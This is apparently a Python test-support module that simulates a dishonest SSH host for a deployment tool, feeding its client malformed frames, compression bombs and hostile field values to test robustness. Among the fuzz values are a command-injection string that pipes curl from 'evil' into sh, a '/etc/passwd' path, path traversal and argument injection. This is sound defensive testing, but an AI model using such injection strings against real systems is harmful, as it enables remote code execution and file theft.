"""Simulate a host that lies: its answers contain a mistake, or it sends frames that are no answer.

A random seed determines the answer. `LyingFleet` uses tfdeploy's own code to call many hosts and to
read their answers. Only the bytes that SSH would carry are made up.
"""

from __future__ import annotations

import copy
import json
import random
import struct
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from types import SimpleNamespace
from typing import Any

from support.faults.honest import HonestAnswer, honest_answer
from tfdeploy.agent import frames
from tfdeploy.errors import HostUnreachable
from tfdeploy.model.inventory import Host
from tfdeploy.text.typed import Args, StreamingVerb, Verb
from tfdeploy.transport.agent.channel import FramedChannel, I, V
from tfdeploy.transport.agent.frames import Frames
from tfdeploy.transport.fleet import SshFleet
from tfdeploy.transport.protocols import Stream

Seed = int | HonestAnswer | None
INFINITE, NAN = float("inf"), float("nan")


def nested_list(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


FOREIGN: list[Any] = [
    None,
    True,
    0,
    -1,
    0.5,
    1 << 63,
    1 << 70,
    -(1 << 70),
    NAN,
    INFINITE,
    -INFINITE,
    1e308,
    10**400,
]
# Times: some are outside the range of calendar dates (years 1 to 9999), the others inside it.
FOREIGN += [-1e11, -6e10, 1e11, 1e12, 1 << 53, (1 << 63) - 1]
FOREIGN += [
    "",
    "x",
    "\0",
    "\n",
    "a\nb",
    "../../../x",
    "/etc/passwd",
    ".",
    "..",
    "n2 ",
    "-e sh",
    "\x1b]0;x\x07",
    "\udc80",
    "é" * 9,
]
FOREIGN += [
    "10.0.0.1;curl evil|sh #",
    "6.6.6\n--find-links /x",
    "x" * 100_000,
    "worker:0",
    "worker:99",
    "ended",
    "running",
    "NaN",
]
FOREIGN += [
    [],
    {},
    [[]],
    [None],
    {"": {}},
    {"x": NAN},
    nested_list(90),
    nested_list(900),
    list(range(5000)),
    ["a"] * 5000,
    {"a": nested_list(50)},
]
FOREIGN += [
    [1, 2, 3, 4],
    {str(n): n for n in range(2000)},
    "0x10",
    "1e5",
    [["a", 1, 1, None]],
    [{"task": "worker:0"}],
]
ODD_FRAMES = [
    b"{{",
    b"[]",
    b"nonsense",
    b'{"id": NaN}',
    b'{"id": 1e999, "value": 1e999}',
    b"[" * 100_000,
    b'{"id": [1], "value": {}}',
    b'{"id": true, "value": {}}',
    b'{"id": "1", "item": {}}',
    b'{"value": {}}',
    b'{"id": 0, "value": {"clock": "late"}}',
    b'{"id": 0, "value": {"clock": 1e300}}',
    b'{"hello": {}}',
    b'{"cancel": 1}',
    b'{"id": ' + b"9" * 4000 + b"}",
    b"9" * 10_000,
    b'{"id": 1, "value": "\xff"}',
]


CODES = ["ended", "locked", "lock_lost", "unknown_run", "bad_argument", "disk", "bug"]
DETAILS: list[Any] = [
    {"lines": ["x"]},
    {"holder": "x"},
    {"holder": {"user": "x"}},
    {"holder": ["x"]},
    {"operation": [1]},
]
DETAILS += [
    {"operation": "launch", "time": 1 << 62},
    {"time": -6e10},
    {"time": True, "user": {"a": 1}},
    {"pid": "\x1b[2J"},
    {},
]
PACKED = ["value", "item", "error", "args", "id", "", None, 1, ["value"]]
BLOBS = [
    b"",
    b"x",
    zlib.compress(b"{}")[:-2],
    zlib.compress(b'{"a": NaN}'),
    zlib.compress(b"[" * 100_000),
]
BLOBS += [zlib.compress(bytes(1 << 26)), zlib.compress(b'{"run": "r1", "job": "j"}')]


def encode_frame(header: Any, blob: bytes = b"") -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("!II", len(text), len(blob)) + text + blob


def list_value_paths(value: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the path (keys and indices) of every value inside `value` that can be replaced. The
    path () stands for `value` itself.
    """
    yield at
    if isinstance(value, (dict, list)):
        for key in value if isinstance(value, dict) else range(len(value)):
            yield from list_value_paths(value[key], (*at, key))


def spoil_one_value(chance: random.Random, value: Any) -> Any:
    """Return a copy of `value` that contains one mistake."""
    value = copy.deepcopy(value)
    where = chance.choice(list(list_value_paths(value)))
    if not where:
        return chance.choice(FOREIGN)
    *above, last = where
    parent = value
    for key in above:
        parent = parent[key]
    how = chance.randrange(6)
    if how == 0 and isinstance(parent, dict):
        del parent[last]
    elif how == 1 and isinstance(parent, dict):
        parent[chance.choice(["x", "", "\udc80", "../x", "worker:0", "\x1b[2J"])] = parent.pop(last)
    elif how == 1:
        parent += parent * 3
    else:
        parent[last] = chance.choice(FOREIGN)
    return value


def make_lie(seed: int, number: int, said: HonestAnswer) -> list[bytes]:
    """Return the frames of one dishonest answer to request `number`.

    The connection ends after these frames.
    """
    chance = random.Random(seed)
    items = [encode_frame({"id": number, "item": item}, blob) for item, blob in said.items]
    end = encode_frame({"id": number, "value": said.value})
    code, details = chance.choice(CODES), chance.choice(DETAILS)
    error = {
        "code": code,
        "what": "it has ended",
        "where": None,
        "advice": chance.choice([None, "sync", "stop_run", "x"]),
        "details": details,
    }

    def spoilt_value() -> list[bytes]:
        return [*items, encode_frame({"id": number, "value": spoil_one_value(chance, said.value)})]

    def spoilt_item() -> list[bytes]:
        if not said.items:
            return spoilt_value()
        item, blob = chance.choice(said.items)
        return [
            *items,
            encode_frame({"id": number, "item": spoil_one_value(chance, item)}, blob),
            end,
        ]

    ways: list[Callable[[], list[bytes]]] = [spoilt_value, spoilt_value, spoilt_item, spoilt_item]
    ways += [
        lambda: [encode_frame({"id": number, "error": spoil_one_value(chance, error)})],
        lambda: [encode_frame({"id": number, "error": error})],
        lambda: [*items, encode_frame(chance.choice(ODD_FRAMES)), end],
        # A second answer, and items after the end.
        lambda: [end, *items, end, encode_frame({"id": number, "error": error})],
        # A late answer to an earlier request.
        lambda: [encode_frame({"id": number - 1, "value": chance.choice(FOREIGN)}), *items, end],
        # An item, but no frame that ends the answer.
        lambda: [encode_frame({"id": number, "item": chance.choice(FOREIGN)}), *items],
        lambda: [*items * 20, end],
        lambda: [*items, end[: chance.randrange(len(end))]],
        lambda: [
            struct.pack("!II", chance.choice([1 << 31, 0, 7]), chance.choice([0, 1 << 31])) + b"{}"
        ],
    ]
    ways += [
        lambda: [
            *items,
            encode_frame(
                {"id": number, "packed": "value"},
                frames.compress(json.dumps(spoil_one_value(chance, said.value)).encode()),
            ),
        ],
        lambda: [
            *items,
            encode_frame({"id": number, "packed": chance.choice(PACKED)}, chance.choice(BLOBS)),
        ],
        lambda: [
            *[
                encode_frame({"id": number, "item": item}, chance.choice(BLOBS))
                for item, _ in said.items
            ],
            end,
        ],
    ]
    return chance.choice(ways)()


class LyingChannel(FramedChannel):
    """The real channel to a host, but the host's answers are false.

    For each call of a verb, `seeds(verb)` returns a number (the seed from which a false answer is
    made), an answer that is sent unchanged, or None if the answer must be honest. If `patience_s`
    is set, the connection stays open after a false answer, every third false answer never ends, and
    each timeout of a call with a false answer is at most `patience_s`. An honest answer is waited
    for as long as usual, because on a busy machine it may come later than that.
    """

    def __init__(
        self, host: str, seeds: Callable[[str], Seed], patience_s: float | None = None
    ) -> None:
        wire_there: Any = SimpleNamespace(close=lambda: None, out_window_size=0)
        super().__init__(wire_there, host, {}, {}, 0)
        self._reader: Any = SimpleNamespace(wake=lambda: None)
        self._frames = Frames()
        self._seeds, self._patience_s = seeds, patience_s
        self._order = threading.Lock()
        self.hello = encode_honest_hello(host)

    def _send(self, header: dict[str, Any], blob: bytes = b"") -> None:
        if "verb" not in header:
            return
        said, seed = (
            honest_answer(header["verb"], self._host, header["args"]),
            self._seeds(header["verb"]),
        )
        if isinstance(seed, HonestAnswer):
            said, seed = seed, None
        if seed is None:
            sent = [
                encode_frame({"id": header["id"], "item": item}, blob) for item, blob in said.items
            ]
            sent.append(encode_frame({"id": header["id"], "value": said.value}))
        else:
            sent = make_lie(seed, header["id"], said)
        ends = seed is not None and self._patience_s is None
        threading.Thread(target=self._hear, args=(b"".join(sent), ends), daemon=True).start()
        if isinstance(seed, int) and self._patience_s is not None and seed % 3 == 0 and said.items:
            drip = [
                encode_frame({"id": header["id"], "item": item}, blob) for item, blob in said.items
            ]
            threading.Thread(
                target=self._drip, args=(header["id"], b"".join(drip)), daemon=True
            ).start()

    def _drip(self, number: int, said: bytes) -> None:
        assert self._patience_s is not None
        while number in self._answers and self._lost is None:
            self._hear(said, last=False)
            time.sleep(self._patience_s / 4)

    def call(
        self, verb: Verb[V], args: Args | None = None, *, blob: bytes = b"", timeout_s: float = 60.0
    ) -> V:
        return super().call(verb, args, blob=blob, timeout_s=self._limited(timeout_s, verb.name))

    def stream(
        self, flow: StreamingVerb[I, V], args: Args | None = None, *, silence_s: float | None = None
    ) -> Stream[I, V]:
        limit_s = None if silence_s is None else self._limited(silence_s, flow.name)
        return super().stream(flow, args, silence_s=limit_s)

    def _limited(self, timeout_s: float, verb: str) -> float:
        if self._patience_s is None or self._seeds(verb) is None:
            return timeout_s
        return min(timeout_s, self._patience_s)

    def shorten_timeouts(self) -> None:
        return None

    def _hear(self, said: bytes, last: bool) -> None:
        """Process the bytes `said` as the real channel processes received bytes.

        If `last` is True, end the connection afterwards, so that no caller waits for more.
        """
        with self._order:
            try:
                self._frames.feed(said)
                for each in self._frames.complete_frames():
                    self._dispatch(each)
            except frames.WireError as error:
                self._fail_all(
                    HostUnreachable(
                        f"the host sends data that tfdeploy's agent never sends: {error}",
                        where=self._host,
                    )
                )
        if last:
            self._fail_all(HostUnreachable("the connection ended", where=self._host))


def encode_honest_hello(host: str) -> Any:
    from tfdeploy.model.answers.hosts import Hello
    from tfdeploy.text.typed import convert_untrusted

    return convert_untrusted(honest_answer("hello", host, {}).value, Hello)


class LyingFleet(SshFleet):
    """A fleet (the sessions with all hosts) whose hosts lie. The code that calls them is real.

    `seeds(host, verb)` and `patience_s` have the meaning that they have in LyingChannel. A channel
    that has ended is opened again.
    """

    def __init__(self, seeds: Callable[[str, str], Seed], patience_s: float | None = None) -> None:
        super().__init__()
        self._seeds, self._patience_s = seeds, patience_s
        self._channels: dict[str, LyingChannel] = {}

    def session(self, host: Host, *_: Any) -> Any:
        tunnel = SimpleNamespace(port=1, close=lambda: None)
        about: dict[str, Any] = {
            "host": host,
            "target": host.name,
            "alive": True,
            "tunnel": lambda *_: tunnel,
        }
        return SimpleNamespace(
            **about, fences={}, agent=lambda *_: self._agent(host.name), close=lambda: None
        )

    def end(self) -> None:
        """Close all channels. This also ends the answers that would never end by themselves."""
        for channel in self._channels.values():
            channel.close()

    def connected(self, hosts: tuple[Host, ...]) -> tuple[Host, ...]:
        return hosts

    def _agent(self, name: str) -> LyingChannel:
        channel = self._channels.get(name)
        if channel is None or channel.is_lost:
            channel = self._channels[name] = LyingChannel(
                name, lambda verb: self._seeds(name, verb), self._patience_s
            )
        return channel
